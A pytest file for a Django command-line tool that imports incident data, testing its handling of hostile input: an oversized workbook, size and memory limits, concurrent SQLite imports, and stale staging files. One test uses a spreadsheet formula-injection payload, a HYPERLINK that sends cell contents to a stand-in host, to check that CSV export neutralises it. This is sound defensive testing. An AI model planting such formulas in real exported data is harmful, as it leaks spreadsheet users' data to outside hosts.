"""`lsoplan incidents …` on hostile input: one Swedish line, nothing partial, nothing left behind."""

from __future__ import annotations

import os
import tempfile
import threading
from pathlib import Path

import pytest
from django.db import connection

from lsoplan.cli import main
from lsoplan.incidents import bulk_sqlite, services
from lsoplan.incidents.models import ImportBatch, Incident
from tests.factories import World
from tests.incidents.test_import import V1, native
from tests.lib.incidents.test_incidents_limits import sheet, text_row, workbook


@pytest.mark.django_db
def test_a_workbook_spanning_xfd1_to_row_1048576_ends_in_one_swedish_line(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = (
        text_row(1, {"A": "handelse_id", "XFD": "x"}) + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'
    )
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(workbook(sheet(rows)))
    code = main(["incidents", "import", str(path), "--org", world.org.slug])
    err = capsys.readouterr().err
    assert code == 1
    assert "16 384 kolumner; högst 500 kolumner läses" in err and "Traceback" not in err


@pytest.mark.django_db
def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from lsoplan.lib.incidents import limits

    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 100)
    path = tmp_path / "stor.csv"
    path.write_bytes(V1)
    assert main(["incidents", "import", str(path), "--org", world.org.slug]) == 2
    assert "Filen är för stor" in capsys.readouterr().err


@pytest.mark.django_db
def test_memory_running_out_ends_in_one_swedish_line(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def exhausted(*args: object, **kwargs: object) -> None:
        raise MemoryError

    monkeypatch.setattr(services, "_import", exhausted)
    path = tmp_path / "v1.csv"
    path.write_bytes(V1)
    assert main(["incidents", "import", str(path), "--org", world.org.slug]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "minnet räckte inte" in err


@pytest.mark.django_db
def test_stats_csv_neutralises_formula_text_from_the_incident_file(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = '=HYPERLINK("http://example.invalid/?d="&C3,"Läs mer")'
    path = tmp_path / "f.csv"
    path.write_bytes(
        native(f'A-9;0484;1;2024-03-05 14:22;2024-03-05 14:31;"{hostile.replace(chr(34), 2 * chr(34))}";')
    )
    assert main(["incidents", "import", str(path), "--org", world.org.slug]) == 0
    capsys.readouterr()
    assert main(["incidents", "stats", "--org", world.org.slug, "--by", "omrade", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "\n\"'=HYPERLINK(" in out
    assert '\n"=HYPERLINK(' not in out


def test_staging_files_of_dead_processes_are_swept_and_live_ones_kept(tmp_path: Path) -> None:
    dead_pid = 2**22 + 12345  # above Linux's pid_max default: no such process
    dead = tmp_path / f"{bulk_sqlite.STAGING_PREFIX}{dead_pid}-abc.sqlite3"
    live = tmp_path / f"{bulk_sqlite.STAGING_PREFIX}{os.getpid()}-def.sqlite3"
    other = tmp_path / "annat.sqlite3"
    for path in (dead, live, other):
        path.write_bytes(b"x" * 1000)
    assert bulk_sqlite.sweep_stale(str(tmp_path)) == 1
    assert not dead.exists() and live.exists() and other.exists()


def test_staging_file_names_carry_the_process_id() -> None:
    path = bulk_sqlite._new_path()
    try:
        assert Path(path).name.startswith(f"{bulk_sqlite.STAGING_PREFIX}{os.getpid()}-")
        assert Path(path).parent == Path(tempfile.gettempdir())
    finally:
        os.unlink(path)


@pytest.mark.django_db(transaction=True)
def test_two_concurrent_imports_on_sqlite_end_in_one_swedish_line_and_nothing_partial(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    if connection.vendor != "sqlite":
        pytest.skip("PostgreSQL lets the second import wait for the first (row lock), as it should")
    first = tmp_path / "first.csv"
    second = tmp_path / "second.csv"
    first.write_bytes(V1)
    second.write_bytes(V1.replace(b"A-", b"B-"))
    holding, release = threading.Event(), threading.Event()
    real_import = services._import
    outcome: dict[str, object] = {}

    def slow_import(*args: object, **kwargs: object) -> object:
        if threading.current_thread().name == "first-import":

            def waiting(done: int, total: int) -> None:  # inside the import's transaction
                holding.set()
                release.wait(10)

            args = (*args[:7], waiting, *args[8:])  # _import's eighth argument is the progress
        return real_import(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(services, "_import", slow_import)

    def run_first() -> None:
        try:
            outcome["first"] = main(["incidents", "import", str(first), "--org", world.org.slug])
        finally:
            connection.close()

    thread = threading.Thread(target=run_first, name="first-import")
    thread.start()
    assert holding.wait(10)
    try:
        code = main(["incidents", "import", str(second), "--org", world.org.slug])
    finally:
        release.set()
        thread.join(20)
    err = capsys.readouterr().err
    assert code == 2 and outcome["first"] == 0
    assert "en annan import pågår" in err and "Traceback" not in err
    assert ImportBatch.objects.count() == 1
    assert sorted(Incident.objects.values_list("source_id", flat=True)) == ["A-1", "A-2", "A-3"]
